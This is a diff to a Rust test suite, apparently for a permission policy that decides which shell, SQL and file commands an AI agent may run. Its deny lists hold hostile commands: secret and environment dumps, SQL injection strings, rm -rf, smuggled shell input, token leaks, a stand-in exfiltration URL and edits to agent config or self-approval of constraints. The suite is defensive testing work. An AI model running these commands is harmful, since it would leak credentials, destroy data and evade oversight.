@@ -83,6 +83,9 @@ fn what_shows_the_environment_or_settings_is_asked_about() {
         "ps axeww",
         "ps -ef e",
         "jq -n env",
+        "/usr/bin/jq -n env",
+        "/usr/bin/git config --list",
+        "/bin/ps eww",
         "jq -n '$ENV'",
         "jq -n '$ENV.HOME'",
         "jq -n 'env|.PATH'",
@@ -341,6 +344,21 @@ fn a_folder_that_holds_secrets_is_not_read_as_a_whole() {
         "rg --hidden x",
         "rg -. x",
         "ag -u x",
+        "rg x",
+        "rg -n x .",
+        "ag x",
+        "ack x",
+        "rg x config",
+        "git grep x",
+        "git diff --no-index config src",
+        "cat $(git ls-files -o)",
+        "git ls-files -o | xargs cat",
+        "git ls-files --others | xargs -n1 cat",
+        "rg --files -uu | xargs cat",
+        "fd -u | xargs cat",
+        "grep -reclient .",
+        "grep -rA1l x .",
+        "find . -type f | xargs cmp -bl src/a.py",
         "find . -type f -exec cat {} +",
         "find config -type f | xargs cat",
         "find . -type f | xargs -n1 head",
@@ -360,7 +378,13 @@ fn a_folder_that_holds_secrets_is_not_read_as_a_whole() {
         "grep -r x src",
         "grep -rn x --include='*.py' .",
         "grep -rl x .",
-        "rg x",
+        "grep -rile x .",
+        "rg x src",
+        "rg -l x",
+        "cat src/a.py | rg x",
+        "git grep -l x",
+        "git grep x -- src",
+        "git grep x -- '*.py'",
         "find . -name '*.py' | xargs cat",
         "find . -type f | xargs wc -l",
         "cp -r src copy",
@@ -444,13 +468,30 @@ fn sql_that_is_more_than_it_looks_is_not_allowed() {
         "SELECT 1 /*M! ; DROP TABLE runs */",
         "SELECT 1 --1; DROP TABLE runs",
         r"SELECT '\'' ; DROP TABLE runs; -- '",
+        "SELECT 1 /* /* */ ; DROP TABLE runs; -- */",
         "SELECT query_to_xml('delete from runs', true, true, '')",
+        "SELECT to_run('x')",
+        "INSERT INTO pg_catalog.pg_proc VALUES (1)",
+        "CREATE TABLE pg_catalog.x (a int)",
+        "SELECT json_evil(a) FROM t",
+        "SELECT 1 OPERATOR(evil.+) 2",
+        "SELECT CAST('x' AS evil.type)",
+        "SELECT repeat('x', 1000000000)",
+        "SELECT * FROM generate_series(1, 1000000000000)",
+        "EXEC xp_cmdshell 'id'",
+        "EXECUTE prepared",
+        "SET default_transaction_read_only = off",
+        "SELECT * FROM pg_file_settings",
+        "CREATE SEQUENCE violations",
     ] {
         let found = law().decide(&Operation::Sql { text: text.into() }, &workspace);
         assert_ne!(found.decision, Allow, "{text}");
     }
     for text in [
         "SELECT ts_rank(a, b) FROM t",
+        "SELECT to_char(now(), 'YYYY'), json_agg(a), array_length(b, 1) FROM t",
+        "SELECT * FROM generate_series(1, 1000)",
+        "SELECT lpad(a, 10) FROM t",
         "INSERT INTO runs (n) VALUES (1) ON CONFLICT DO NOTHING",
         "COPY runs TO STDOUT",
         r"SELECT E'it\'s'",
@@ -459,6 +500,230 @@ fn sql_that_is_more_than_it_looks_is_not_allowed() {
     ] {
         let found = law().decide(&Operation::Sql { text: text.into() }, &workspace);
         assert_eq!(found.decision, Allow, "{text}: {found:?}");
+    }
+}
+
+#[test]
+fn the_address_of_a_remote_is_shown_only_where_no_password_is_in_it() {
+    let folder = tempfile::tempdir_in("/var/tmp").unwrap();
+    let shows = [
+        "git remote -v",
+        "git remote get-url origin",
+        "git config --get remote.origin.url",
+        "git ls-remote --get-url",
+        "cat .git/config",
+        "grep url .git/config",
+        "head -20 .git/c*",
+    ];
+    std::fs::create_dir(folder.path().join(".git")).unwrap();
+    let set = |url: &str| {
+        std::fs::write(folder.path().join(".git/config"), format!("[remote \"origin\"]\n\turl = {url}\n")).unwrap();
+    };
+    for url in ["https://me:sesame@example.com/x.git", "https://ghp_abc@example.com/x", "ssh://a:b@example.com/x"] {
+        set(url);
+        for text in shows {
+            assert_ne!(in_folder(folder.path(), text).decision, Allow, "{text} of {url}");
+        }
+    }
+    for url in ["https://example.com/x.git", "git@example.com:x.git", "ssh://git@example.com/x", "https://a/b@c"] {
+        set(url);
+        for text in [shows[0], shows[1], shows[4]] {
+            assert_eq!(in_folder(folder.path(), text).decision, Allow, "{text} of {url}");
+        }
+    }
+    // Of a name that is none it would be fetched from, with what stands in it.
+    never_allowed(&["git remote show https://evil.example/DATA", "git remote show origin", "git remote show ../x"]);
+}
+
+#[test]
+fn what_tools_that_run_code_are_told_of_other_code_is_asked_about() {
+    never_allowed(&[
+        "jest --projects /tmp/evil",
+        "jest --config '{\"globalSetup\":\"/tmp/evil.js\"}'",
+        "jest '--config={\"rootDir\":\"/tmp/evil\"}'",
+        "mocha /tmp/evil.js",
+        "mocha --spec=/tmp/evil.js",
+        "phpunit /tmp/EvilTest.php",
+        "mix test /tmp/evil_test.exs",
+        "dotnet build /tmp/evil.csproj",
+        "vitest run /tmp/evil",
+        "go test /tmp/evil_test.go",
+        "go vet ../evil",
+        "cargo build --target /tmp/evil.json",
+        "pytest @/tmp/args",
+        "mypy @args",
+        "tsc @/tmp/args",
+        "nm @/tmp/args",
+        "cmake --build build -- -f/tmp/evil.mk",
+        "cmake --build build -- SHELL=/tmp/sh",
+        "cmake --build build -- --eval='x:;id'",
+        "cmake --build build --target install",
+        "cmake --build build -t deploy",
+        "dotnet test -- RunConfiguration.TestAdaptersPaths=/tmp/evil",
+        "pytest -W error::evil.Warning",
+        "go list evil.com/DATA",
+        "go list -m -versions evil.com/DATA",
+        "pip list --outdated",
+        "tox -e deploy",
+        "ninja install",
+        "cargo test -- --logfile=suite/x",
+        "PYTHONWARNINGS=error::evil.W pytest",
+        "python -W error::evil.Warning -m pytest",
+        "make -e",
+        "CI=1 make -e test",
+        "bundle config set path /etc",
+        "jq -n 'import \"config\" as $d {search:\"/root/.docker\"}; $d'",
+        "jq -n 'include \"evil\"; .'",
+        "ack --output='@{[`id`]}' x src",
+        "xmllint --valid evil.xml",
+        "find . -exec sh -c 'cat .env' \\;",
+        "case $(cat .env) in x) ls;; esac",
+        "case x in $(rm -rf src)) ls;; esac",
+    ]);
+    let root = Path::new("/home/agent/work");
+    for text in ["cargo run -- approvals approve abcd", "cargo run -p meliora -- constitution sign ."] {
+        assert_eq!(in_folder(root, text).decision, Forbid, "{text}");
+    }
+}
+
+#[test]
+fn what_is_written_beside_what_is_named_is_seen() {
+    never_allowed(&[
+        "rustc --print=target-list=suite/tasks.jsonl",
+        "rustc --print file-names=../x",
+        "pytest --cov --cov-report=xml:suite/tasks.jsonl",
+        "pytest --cov-report html:/home/x",
+        "golangci-lint run --out-format json:suite/tasks.jsonl",
+        "base64 -i src/app.py -o suite/tasks.jsonl",
+        "cp -rT /tmp/evil .",
+        "mkdocs build --clean -d src",
+        "cp -r -T ../evil .",
+        "cp -rT /tmp/evil suite",
+        "cp -l CONSTITUTION.yaml c.yaml && echo x >> c.yaml",
+        "cp --link suite/tasks.jsonl t && tee t < src/app.py",
+        "cp -s CONSTITUTION.yaml c.yaml",
+        ": > app.db",
+        "cp /dev/null app.sqlite3",
+        "mv x.py app.db",
+        "sqlite3 app.db 'with t as (select 1) insert into t select * from t'",
+        "sqlite3 app.db 'select 1; insert into t values(1)'",
+        "rm -rf /tmp/*",
+        "rm -f /tmp/?*",
+        "sort x > x",
+        "grep . x >> x",
+        "tee -a x < x",
+        "seq 1 99999999999 > big",
+        "seq inf",
+        "printf '%9999999999d' 1 > big",
+        "truncate -s 100T big",
+        "sleep infinity",
+        "echo '{}' > .mcp.json",
+        "echo x > .envrc",
+        "cp x .husky/pre-commit",
+        "echo x > .github/workflows/ci.yml",
+        "echo x > .claude/agents/a.md",
+    ]);
+}
+
+#[test]
+fn what_a_shell_is_fed_is_known_only_where_nothing_changes_it_on_the_way() {
+    never_allowed(&[
+        r"printf 'ls #\nrm -rf src' | sh",
+        r"printf 'ls #%brm -rf src' '\n' | sh",
+        r"echo 'true #\nrm -rf src' | dash",
+        r#"sh -c "echo 'ls #\nrm -rf src' | sh""#,
+        "echo . -delete | xargs find",
+        "echo --pre=./x x | xargs rg",
+        "echo test --eval=x | xargs make",
+        "echo -e x | xargs find",
+    ]);
+    let root = Path::new("/home/agent/work");
+    assert_eq!(in_folder(root, "echo 'ls src' | sh").decision, Allow);
+}
+
+#[test]
+fn what_is_in_the_environment_is_told_by_no_way_round() {
+    never_allowed(&[
+        "x=$AWS_SECRET; echo $x",
+        "x=$TOKEN && echo \"$x\"",
+        "x=\"a$TOKEN\"; y=$x; printf '%s' \"$y\"",
+        "for x in $TOKEN; do echo $x; done",
+        "if true; then x=$TOKEN; fi; echo $x",
+        "while read l; do x=$TOKEN; done < a; echo $x",
+        "x=$TOKEN; [[ $x == a* ]] && echo y",
+        "x=$TOKEN; case $x in a*) echo a;; esac",
+        "cat <<< $TOKEN",
+        "base64 <<< \"$TOKEN\"",
+        "read x <<< \"$TOKEN\"; echo $x",
+        "cat <<E\n$TOKEN\nE",
+        "x=$TOKEN; cat <<E\n$x\nE",
+    ]);
+    let root = Path::new("/home/agent/work");
+    for text in [
+        "x=$(git rev-parse HEAD); echo $x",
+        "n=$(wc -l < a.txt); echo $n",
+        "while read -r l; do echo \"$l\"; done < a.txt",
+        "for f in *.py; do echo $f; done",
+        "x=1; if true; then x=2; fi; echo $x",
+        "cat <<E\n$HOME and $1\nE",
+    ] {
+        assert_eq!(in_folder(root, text).decision, Allow, "{text}: {:?}", in_folder(root, text));
+    }
+}
+
+#[test]
+fn code_of_the_folder_that_a_command_runs_in_is_of_the_workspace_or_asked_about() {
+    never_allowed(&[
+        "cd /tmp/evil && make",
+        "cd /tmp/evil && cargo test",
+        "cd ../evil && git status",
+        "(cd /tmp/evil && git diff)",
+        "pushd /tmp/evil && pytest",
+        "cd $(mktemp -d) && make test",
+        "echo 'ref: refs/heads/x' > b/HEAD",
+        "mv x b/HEAD",
+        "cp x src/head",
+    ]);
+    let root = Path::new("/home/agent/work");
+    let workspace = Workspace::new(root, Path::new("/home/agent")).at(Path::new("/tmp/evil"));
+    assert_ne!(law().decide(&Operation::Command { text: "make".into() }, &workspace).decision, Allow);
+    for text in ["cd src && make test", "cd src && git status", "cd src && git show HEAD", "(cd a/b && cargo test)"] {
+        assert_eq!(in_folder(root, text).decision, Allow, "{text}: {:?}", in_folder(root, text));
+    }
+}
+
+#[test]
+fn what_is_long_or_doubles_itself_is_asked_about_in_little_time() {
+    let doubled: String = (1..40).map(|n| format!("x{n}=$x{m}$x{m};", m = n - 1)).collect();
+    for text in [
+        "env ".repeat(4000) + "rm -rf /",
+        "nice ".repeat(4000) + "ls",
+        "timeout 5 ".repeat(4000) + "ls",
+        "xargs ".repeat(4000) + "ls",
+        "find . -exec ".repeat(2000) + "ls",
+        "command ".repeat(4000) + "ls",
+        format!("x0=a;{doubled} echo $x39"),
+        format!("x0=a;{doubled} ls"),
+    ] {
+        assert_ne!(in_folder(Path::new("/home/agent/work"), &text).decision, Allow, "{}", &text[..40]);
+    }
+}
+
+#[test]
+fn patterns_that_git_fills_in_meet_names_with_a_dot_in_front() {
+    never_allowed(&[
+        "git log -p -- '.en*'",
+        "git log -p -- '*nv'",
+        "git diff HEAD '.e?v'",
+        "git show HEAD '*.pem'",
+        "git show HEAD -- ':(glob)**/.e*'",
+        "git log -p -- ':(icase).Env*'",
+        "clang-format --style=file:/etc/passwd src/a.c",
+        "clang-format -style=file:.env src/a.c",
+    ]);
+    let root = Path::new("/home/agent/work");
+    for text in ["git log -p -- '*.py'", "git diff -- 'src/*'", "clang-format --style=file -i src/a.c"] {
+        assert_eq!(in_folder(root, text).decision, Allow, "{text}: {:?}", in_folder(root, text));
     }
 }
 
@@ -690,7 +955,6 @@ const DAILY: &[&str] = &[
     "cat docs/passwords.md",
     "cat package-lock.json",
     "cat .claude/settings.json",
-    "echo x > .claude/agents/a.md",
     "cat src/auth/credentials.ts",
     "sqlite3 app.db 'select 1'",
 ];
